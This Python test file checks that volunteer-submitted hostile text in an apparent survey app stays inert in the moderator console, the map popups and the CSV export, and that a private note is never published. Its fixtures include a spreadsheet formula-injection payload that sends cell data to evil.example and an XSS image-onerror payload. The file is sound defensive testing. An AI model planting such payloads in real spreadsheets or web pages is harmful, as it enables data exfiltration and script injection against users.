"""Hostile text sent by a volunteer, reviewed by a moderator through the real API, then published:
inert in the console, the map and the CSV; the volunteer's note never leaves the moderators."""

import csv
import io
import re

from survey.publish.downloads import FORMULA_STARTS
from tests.intake.test_hostile_text import FORMULA, XSS, _number
from tests.support import PASSWORD, make_user, moderator, submit

NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"Open") <img src=x onerror="document.body.dataset.pwned=1">'


def approved(client, app, **fields) -> tuple[dict, dict]:
    headers = moderator(app)
    sighting = submit(client, notes=NOTE, **fields)
    response = client.post(f"/api/v1/moderation/sightings/{sighting['id']}/approve", json={}, headers=headers)
    assert response.status_code == 200, response.json
    return sighting, headers


def test_reviewed_hostile_fields_are_inert_in_the_csv(client, app):
    approved(client, app, operator=FORMULA, manufacturer=XSS, model="+SUM(A1:A9)")
    body = client.get("/api/v1/cameras.csv").get_data(as_text=True)
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert "'" + FORMULA in cells and "'+SUM(A1:A9)" in cells
    assert 'HYPERLINK("http://evil.example/?q=' not in body.replace("'" + FORMULA, "")  # the note is not published


def test_console_and_map_show_hostile_text_as_text(browser, live_server, app, client):
    app.config["TILE_URL"] = live_server.url + "/no-tiles/{z}/{x}/{y}.png"
    make_user(app, "console@example.org")
    sighting = submit(client, notes=NOTE, operator=XSS, seed=3)
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    problems = []
    page.on("pageerror", lambda exc: problems.append(str(exc)))
    page.on(
        "console", lambda m: m.type == "error" and "Failed to load resource" not in m.text and problems.append(m.text)
    )
    try:
        page.goto(f"{live_server.url}/console/login")
        page.fill("input[name=email]", "console@example.org")
        page.fill("input[name=password]", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_url(re.compile(r".*/console(\?.*)?$"), timeout=15000)
        page.wait_for_function("() => document.body.innerText.includes('HYPERLINK')", timeout=15000)
        assert page.locator("img[src='x']").count() == 0
        assert page.evaluate("() => document.body.dataset.pwned") is None
        camera = client.post(
            f"/api/v1/moderation/sightings/{sighting['id']}/approve", json={}, headers=moderator(app, "api@example.org")
        ).json["camera"]["id"]
        page.goto(f"{live_server.url}/map")
        page.locator(f'.leaflet-marker-icon[title^="Camera {camera},"]').click()
        popup = page.locator(".leaflet-popup .camera-popup")
        popup.wait_for(timeout=10000)
        assert XSS in popup.inner_text() and "HYPERLINK" not in popup.inner_text()  # the note stays private
        assert page.locator("img[src='x']").count() == 0 and page.evaluate("() => document.body.dataset.pwned") is None
        assert problems == []
    finally:
        context.close()
